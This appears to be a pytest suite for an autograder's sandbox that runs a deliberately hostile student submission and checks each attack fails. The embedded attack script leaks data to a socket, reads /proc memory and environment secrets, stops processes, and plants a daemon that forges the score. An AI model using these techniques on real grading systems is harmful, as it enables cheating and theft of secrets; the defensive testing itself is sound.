"""Each class of attack on the sandbox's isolation, tried as a real submission through the CLI.

The submissions are graded as root (as on Gradescope) and as an ordinary user (an
instructor's laptop, a self-hosted runner), each time on a copy of the course that the
grading user owns. Each attack must gain nothing: no points, no hidden value in any output,
no grader crash or hang, no process or file left behind, a result for every grading.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import A01, REFERENCE_01, ROOT, messages, run_cli, task_scores
from container import Container, NoContainer, container

from autograder.sandbox.client import Limits, SubmissionError
from autograder.testing import handles
from autograder.testing.handles import SandboxRunner

ATTACKS = """
import contextlib, os, signal, socket, subprocess, torch

REPORT = []


def attempt(name, action):
    try:
        action()
        REPORT.append(name + ":done")
    except Exception:
        REPORT.append(name + ":refused")


def leak(data):
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as connection:
        connection.sendall(data.encode())


def plant_files():
    for folder in ["/tmp", "/var/tmp", "/dev/shm"]:
        with open(os.path.join(folder, "__MARKER__"), "w") as planted:
            planted.write("for the next sandbox")


def plant_bytecode():
    os.makedirs("__SOLUTIONS__/__pycache__", exist_ok=True)
    with open("__SOLUTIONS__/__pycache__/gradient_descent.cpython-311.pyc", "wb") as planted:
        planted.write(b"__MARKER__")


def others():
    return [int(entry) for entry in os.listdir("/proc") if entry.isdigit() and int(entry) != os.getpid()]


def read_memory():
    for pid in others():
        with contextlib.suppress(OSError):
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(int(maps.readline().split("-")[0], 16))
                memory.read(16)
                return
    raise OSError("no memory of another process")


def stop_everyone():
    for pid in others():
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGSTOP)


def linger():
    held = []
    for fd in range(3, 64):  # the sandbox's socket among them
        with contextlib.suppress(OSError):
            os.set_inheritable(fd, True)
            held.append(fd)
    script = "while :; do echo '{\\"score\\": 1000}' > __RESULT__; sleep 0.2; done; : __MARKER__"
    subprocess.Popen(["sh", "-c", script], pass_fds=held, start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def close_folder():
    os.makedirs("__MARKER__/inner")
    with open("__MARKER__/inner/planted", "w") as planted:
        planted.write("left behind")
    os.chmod("__MARKER__/inner", 0)
    os.chmod("__MARKER__", 0)


def read(path):
    with open(path) as secret:
        REPORT.append(secret.read())  # a secret that got this far would show in the message


def lift_limits():
    import resource
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))


attempt("network", lambda: leak("LEAK at import"))
attempt("limits", lift_limits)
attempt("files", plant_files)
attempt("bytecode", plant_bytecode)
attempt("closed folder", close_folder)
attempt("memory", read_memory)
stop_everyone()
attempt("signal", lambda: os.kill(__SLEEPER__, signal.SIGSTOP))  # a process of the grading user
attempt("environ", lambda: read("/proc/__SLEEPER__/environ"))
attempt("home", lambda: read("__HOME__/.secret-token"))
attempt("read-only", lambda: open("__WRITABLE__/planted", "w").close())  # a folder the grading user owns
attempt("locks", lambda: open("/run/autograder-sandbox/uid-62000.lock", "w").close())  # block a uid
attempt("linger", linger)


def model(x, w, b):
    raise ValueError("REPORT " + " ".join(REPORT))


def loss_fn(y_hat, y):
    return torch.tensor(0.0)


def dloss_fn(y_hat, y):
    attempt("leak", lambda: leak("LEAK " + repr(y_hat.tolist())))
    return torch.zeros_like(y_hat)


try:
    exec(open("__SOLUTIONS__/gradient_descent.py").read())  # the reference, if it can be read
except OSError:
    pass
"""


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A port on 127.0.0.1 and everything sent to it."""
    server = socket.create_server(("127.0.0.1", 0))
    received: list[bytes] = []

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = server.accept()
                with connection:
                    received.append(connection.recv(65536))

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], received
    server.close()


@contextlib.contextmanager
def throwaway_user() -> Iterator[tuple[int, int]]:
    """A new ordinary user (uid, gid), removed afterwards."""
    name = f"agtest{os.getpid()}"
    created = subprocess.run(["useradd", "--system", "--no-create-home", name], capture_output=True, text=True)
    if created.returncode != 0:
        pytest.skip(f"useradd could not create a user: {created.stderr.strip()}")
    try:
        info = subprocess.run(["id", "-u", name], capture_output=True, text=True).stdout.strip()
        group = subprocess.run(["id", "-g", name], capture_output=True, text=True).stdout.strip()
        yield int(info), int(group)
    finally:
        subprocess.run(["userdel", name], capture_output=True)


@contextlib.contextmanager
def course_copy(owner: tuple[int, int] | None = None) -> Iterator[Path]:
    """A copy of assignment 01 (public and instructor files) in a folder of its own."""
    course = Path(tempfile.mkdtemp(prefix="autograder-isolation-"))
    course.chmod(0o755)
    for part in ("assignments", "solutions"):
        shutil.copytree(ROOT / part / A01, course / part / A01, ignore=shutil.ignore_patterns("__pycache__"))
    if owner is not None:
        subprocess.run(["chown", "-R", f"{owner[0]}:{owner[1]}", str(course)], check=True)
    try:
        yield course
    finally:
        shutil.rmtree(course, ignore_errors=True)


def as_user(uid: int, gid: int) -> tuple[str, ...]:
    return ("setpriv", f"--reuid={uid}", f"--regid={gid}", "--clear-groups")


@pytest.fixture(params=["root", "root without namespaces", "ordinary user"])
def grader(request: pytest.FixtureRequest) -> Iterator[tuple[Path, tuple[str, ...], bool]]:
    """A copy of the course owned by the grading user, how to run the CLI as that user, and
    whether its sandboxes get namespaces (root without CAP_SYS_ADMIN, as in Docker, does not)."""
    if request.param.startswith("root") and os.geteuid() != 0:
        pytest.skip("grading as root needs root")
    if request.param == "root":
        skip_without_namespaces(())
        with course_copy() as course:
            yield course, (), True
    elif request.param == "root without namespaces":
        with course_copy() as course:
            yield course, ("setpriv", "--bounding-set=-sys_admin", "--inh-caps=-sys_admin"), False
    elif os.geteuid() != 0:
        skip_without_namespaces(())
        with course_copy() as course:
            yield course, (), True
    else:
        with throwaway_user() as (uid, gid), course_copy((uid, gid)) as course:
            skip_without_namespaces(as_user(uid, gid))
            yield course, as_user(uid, gid), True


def skip_without_namespaces(wrap: tuple[str, ...]) -> None:
    """Skip where the kernel refuses the sandbox's namespaces (e.g. Docker's seccomp, AppArmor)."""
    as_root = os.geteuid() == 0 and not wrap
    command = [*wrap, "unshare", *([] if as_root else ["-r"]), "-n", "-m", "-p", "-f", "true"]
    try:
        refused = subprocess.run(command, capture_output=True, text=True).returncode != 0
    except FileNotFoundError:
        pytest.skip("unshare is not installed, so whether namespaces work here is unknown")
    if refused:
        pytest.skip("the kernel refuses namespaces here; the fallbacks are tested without them")


@pytest.fixture
def sleeper(grader: tuple[Path, tuple[str, ...], bool]) -> Iterator[tuple[int, str]]:
    """A process of the grading user outside the sandbox, with a secret in its environment, and the secret."""
    secret = f"token-{time.monotonic_ns()}"
    process = subprocess.Popen([*grader[1], "sleep", "600"], env={**os.environ, "AUTOGRADER_TEST_SECRET": secret})
    yield process.pid, secret
    process.kill()
    process.wait()


@pytest.fixture
def in_container() -> Iterator[tuple[str, ...]]:
    """A command prefix that runs in Gradescope's container (768 MB, half a CPU), where one can be made."""
    prefix: tuple[str, ...] = ()
    with contextlib.ExitStack() as stack:
        with contextlib.suppress(NoContainer):
            prefix = stack.enter_context(container()).wrap()
        yield prefix


def test_attacks_on_the_isolation_gain_nothing(grader, listener, sleeper, in_container):
    course, wrap, namespaces = grader
    port, received = listener
    marker = f"autograder-attack-{os.getpid()}-{time.monotonic_ns()}"
    result_file = course / "result.json"
    solutions = course / "solutions" / A01
    token = course / ".secret-token"  # the course folder is the grading user's home
    token.write_text(sleeper[1])
    token.chmod(0o600)
    shutil.chown(token, course.stat().st_uid, course.stat().st_gid)
    source = ATTACKS.replace("__PORT__", str(port)).replace("__MARKER__", marker).replace("__HOME__", str(course))
    source = source.replace("__SOLUTIONS__", str(solutions)).replace("__RESULT__", str(result_file))
    submission = course / "gradient_descent.py"
    writable = Path(tempfile.mkdtemp(prefix=".isolation-", dir=ROOT))  # seen by the sandbox, like a user's venv
    writable.chmod(0o755)
    shutil.chown(writable, course.stat().st_uid, course.stat().st_gid)
    source = source.replace("__SLEEPER__", str(sleeper[0])).replace("__WRITABLE__", str(writable))
    submission.write_text(textwrap.dedent(source))
    submission.chmod(0o644)

    arguments = ("--course", course, "grade", A01, submission, "--json", result_file)
    try:
        done = run_cli(*arguments, cwd=course, wrap=(*in_container, *wrap, "env", f"HOME={course}"), timeout=240)
        planted = (writable / "planted").exists()
    finally:
        shutil.rmtree(writable)
    assert done.returncode == 0, done.stdout + done.stderr
    assert not planted
    time.sleep(1)  # a daemon that survived would rewrite the result by now
    result = json.loads(result_file.read_text())

    assert result["score"] == 0  # the reference could not be read
    report = " ".join(messages(result, "model"))
    refused = ["memory", "limits", "signal", "environ", "home", "read-only", "locks"]
    assert all(f"{attack}:refused" in report for attack in refused), report
    assert sleeper[1] not in result_file.read_text() + done.stdout + done.stderr
    state = Path(f"/proc/{sleeper[0]}/stat").read_text().rpartition(")")[2].split()[0]
    assert state in "RS", state  # neither stopped nor killed
    if namespaces:  # without a network namespace the network is open (docs/security.md)
        assert "network:refused" in report
        assert received == []  # neither public nor hidden inputs reached the listener
    assert not any(Path(folder, marker).exists() for folder in ["/tmp", "/var/tmp", "/dev/shm"])
    assert not list(Path(tempfile.gettempdir()).glob(f"autograder-sandbox-*/{marker}"))  # closed, yet removed
    assert not (solutions / "__pycache__").exists()
    survivors = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout
    assert survivors == ""


def test_an_import_that_hangs_is_decided_once(tmp_path):
    submission = tmp_path / "gradient_descent.py"
    submission.write_text("while True:\n    pass\n")
    started = time.monotonic()
    done = run_cli("grade", A01, submission, "--json", tmp_path / "result.json", "--budget-seconds", "4")
    assert done.returncode == 0, done.stdout + done.stderr
    assert time.monotonic() - started < 60  # not one import timeout per test
    result = json.loads((tmp_path / "result.json").read_text())
    assert result["score"] == 0
    graded = [test for task in result["tasks"] for test in task["tests"] if test["max_score"] > 0]
    assert {(test["status"], test["message"]) for test in graded} == {("timeout", graded[0]["message"])}
    assert "time budget (4 s)" in graded[0]["message"]


def test_the_time_budget_ends_a_slow_submission_with_a_reason(tmp_path):
    submission = tmp_path / "gradient_descent.py"
    submission.write_text(
        REFERENCE_01.read_text() + "\n\nimport time\n\ndef dloss_fn(y_hat, y):\n    time.sleep(100)\n"
    )
    done = run_cli(
        "grade", A01, submission, "--json", tmp_path / "result.json", "--budget-seconds", "3", "--max-call-seconds", "1"
    )
    assert done.returncode == 0, done.stdout + done.stderr
    result = json.loads((tmp_path / "result.json").read_text())
    assert task_scores(result)["dloss_fn"][0] == 0
    assert any("time budget (3 s)" in message for task in ["dloss_fn", "grad_fn"] for message in messages(result, task))


@pytest.fixture
def gradescope_container() -> Iterator[Container]:
    """Control groups as small as Gradescope's default container (768 MB, half a CPU), removed afterwards."""
    try:
        with container() as box:
            yield box
    except NoContainer as error:
        pytest.skip(str(error))


def test_a_memory_hungry_submission_meets_its_own_limit_in_gradescopes_container(tmp_path, gradescope_container):
    hog = tmp_path / "gradient_descent.py"
    hog.write_text(
        REFERENCE_01.read_text() + "\n\ndef dmodel_dw(x, w, b):\n    hoard = []\n    while True:\n"
        "        hoard.append(torch.ones(16 * 2**20))\n"
    )
    done = run_cli("grade", A01, hog, "--json", tmp_path / "result.json", wrap=gradescope_container.wrap())
    assert done.returncode == 0, done.stdout + done.stderr
    result = json.loads((tmp_path / "result.json").read_text())
    scores = task_scores(result)
    assert scores.pop("dmodel_dw")[0] == 0
    refused = messages(result, "dmodel_dw")  # its own allocation failed: MemoryError, or torch's RuntimeError
    assert refused and all(message.startswith("dmodel_dw raised") for message in refused), refused
    users = {"grad_fn", "training_loop"}  # they call dmodel_dw, and fail from its error
    assert all(score == most for task, (score, most) in scores.items() if task not in users), scores
    assert all(any(m.startswith("dmodel_dw raised") for m in messages(result, task)) for task in users)
    assert not any("ended the process" in m for task in scores for m in messages(result, task))  # no crash
    assert gradescope_container.oom_kills() == 0  # the sandbox's own limit stopped it, not the OOM killer


NO_USER_NAMESPACES = """
import ctypes, os, sys

uid, gid, command = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]
ready_read, ready_write = os.pipe()
mapped_read, mapped_write = os.pipe()
pid = os.fork()
if pid == 0:
    if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) != 0:  # CLONE_NEWUSER
        os._exit(111)
    os.write(ready_write, b"x")
    os.read(mapped_read, 1)
    with open("/proc/sys/user/max_user_namespaces", "w") as limit:  # of this namespace only
        limit.write("0")
    os.setgroups([])
    os.setgid(gid)
    os.setuid(uid)
    os.execvp(command[0], command)
os.read(ready_read, 1)
for name in ("uid_map", "gid_map"):
    with open(f"/proc/{pid}/{name}", "w") as mapping:
        mapping.write("0 0 4294967295")
os.write(mapped_write, b"x")
_, status = os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(status))
"""


@contextlib.contextmanager
def unisolated(tmp_path: Path) -> Iterator[tuple[Path, tuple[str, ...]]]:
    """A course copy of a throwaway ordinary user, and how to run the CLI as that user inside a
    user namespace whose kernel refuses namespaces: nothing can isolate its sandboxes."""
    if os.geteuid() != 0:
        pytest.skip("making a user namespace that refuses namespaces needs root")
    launcher = tmp_path / "no_user_namespaces.py"
    launcher.write_text(NO_USER_NAMESPACES)
    with throwaway_user() as (uid, gid), course_copy((uid, gid)) as course:
        wrap = (sys.executable, str(launcher), str(uid), str(gid), "env", f"HOME={course}")
        if subprocess.run([*wrap, "true"], capture_output=True).returncode != 0:
            pytest.skip("the kernel refuses the user namespace this test grades in")
        yield course, wrap


def test_where_namespaces_are_refused_grade_says_so_and_runs_hidden_tests_only_when_allowed(tmp_path):
    with unisolated(tmp_path) as (course, wrap):
        submission = course / "solutions" / A01 / "gradient_descent.py"
        refused = run_cli("--course", course, "grade", A01, submission, cwd=course, wrap=wrap)
        assert refused.returncode == 2
        assert "cannot isolate" in refused.stdout and "--allow-unisolated" in refused.stdout
        assert "Traceback" not in refused.stdout + refused.stderr

        result_file = course / "result.json"
        arguments = ("--course", course, "grade", A01, submission, "--json", result_file, "--allow-unisolated")
        allowed = run_cli(*arguments, cwd=course, wrap=wrap)
        assert allowed.returncode == 0, allowed.stdout + allowed.stderr
        assert "cannot isolate" in allowed.stderr
        result = json.loads(result_file.read_text())
        assert result["score"] == result["max_score"] > 0


def test_where_namespaces_are_refused_grade_all_says_so_and_runs_hidden_tests_only_when_allowed(tmp_path):
    with unisolated(tmp_path) as (course, wrap):
        submissions = course / "submissions"
        submissions.mkdir()
        for name in ("ada", "bo"):
            shutil.copy(REFERENCE_01, submissions / f"{name}.py")
        out = course / "graded"
        command = ("--course", course, "grade-all", A01, submissions, "--out", out, "--jobs", "2")
        refused = run_cli(*command, cwd=course, wrap=wrap)
        assert refused.returncode == 2, refused.stdout + refused.stderr
        said = [line for line in refused.stdout.splitlines() if "cannot isolate" in line]
        assert len(said) == 1 and said[0].startswith("error: this machine cannot isolate the submission")
        assert "--allow-unisolated" in said[0] and "Traceback" not in refused.stdout + refused.stderr
        assert not list(out.glob("results/*.json"))

        allowed = run_cli(*command, "--allow-unisolated", cwd=course, wrap=wrap)
        assert allowed.returncode == 0, allowed.stdout + allowed.stderr
        assert allowed.stderr.count("note: this machine cannot isolate the submission") == 1  # once, not per worker
        for name in ("ada", "bo"):
            result = json.loads((out / "results" / f"{name}.json").read_text())["result"]
            assert result["score"] == result["max_score"] > 0


class EndlessCalls(SandboxRunner):
    """A runner whose every call runs to its limit on a clock that only the calls move."""

    def __init__(self, limits: Limits, clock: list[float]) -> None:
        super().__init__(Path("unused.py"), None, limits)
        self.clock, self.limits_given = clock, []

    def _call(self, kind: str, name: str, args: list, kwargs: dict, seed: int, timeout: float, left: float) -> dict:
        self.limits_given.append((name, timeout))
        self.clock[0] += timeout
        raise SubmissionError("timeout", name, message=f"{timeout:g} s")


def endless(monkeypatch, limits: dict[str, float], calls: list[str]) -> tuple[EndlessCalls, list[str], list[float]]:
    """Each of ``calls`` made on a runner whose calls never finish: the runner, their messages, the clock."""
    clock = [0.0]
    monkeypatch.setattr(handles.time, "monotonic", lambda: clock[0])
    runner = EndlessCalls(Limits(retry_seconds=1.0, timeout_budget_seconds=30.0), clock)
    said = []
    for name in calls:
        with pytest.raises(SubmissionError) as raised:
            runner.call("function", name, [], {}, 0, limits[name])
        said.append(raised.value.message)
    return runner, said, clock


def test_calls_that_never_finish_cost_a_bounded_time_not_each_tests_limit(monkeypatch):
    runner, said, clock = endless(monkeypatch, {"fit": 10.0, "train": 10.0}, ["fit"] * 3 + ["train"] * 40)
    # the first time-out of each function runs to its test's limit, every later call gets a second
    assert runner.limits_given == [("fit", 10.0), ("fit", 1.0), ("fit", 1.0), ("train", 10.0)] + [("train", 1.0)] * 8
    assert all(message.endswith("as it had timed out in an earlier test") for message in said[1:3] + said[4:11])
    # once 30 s have gone in calls that did not finish, no call is made again
    assert said[11].startswith("30 s in calls that did not finish: the remaining tests were not run")
    assert set(said[11:]) == {said[11]} and clock[0] == 30.0


def test_a_first_time_out_runs_to_its_limit_however_long_and_the_next_one_ends_the_calls(monkeypatch):
    runner, said, clock = endless(monkeypatch, {"fit": 60.0, "train": 10.0}, ["fit", "train", "train"])
    assert runner.limits_given == [("fit", 60.0), ("train", 10.0)] and clock[0] == 70.0
    assert said[1] == said[2] and "did not finish: the remaining tests were not run" in said[1]


FILLER = """
import os

written = 0
try:
    while written < 512:  # MiB: far more than a sandbox may keep
        with open(f"filler-{written}.bin", "wb") as filler:
            filler.write(b"x" * 2**20)
        written += 1
except OSError:
    pass


def model(x, w, b):
    raise ValueError(f"wrote {written} MiB")
"""


def test_what_a_sandbox_writes_in_its_folder_is_bounded_and_never_reaches_the_graders_disk(tmp_path):
    skip_without_namespaces(())
    temp = tmp_path / "temp"
    temp.mkdir(mode=0o755)
    out = tmp_path / "result.json"
    submission = tmp_path / "gradient_descent.py"
    submission.write_text(REFERENCE_01.read_text() + FILLER)
    done = run_cli("grade", A01, submission, "--json", out, wrap=("env", f"TMPDIR={temp}"))
    assert done.returncode == 0, done.stdout + done.stderr
    said = [m for m in messages(json.loads(out.read_text()), "model") if "wrote" in m]
    assert said and all(0 < int(m.split("wrote ")[1].split(" MiB")[0]) <= 64 for m in said)
    assert list(temp.iterdir()) == []  # nothing of it is left, and nothing was written beside the grader's files
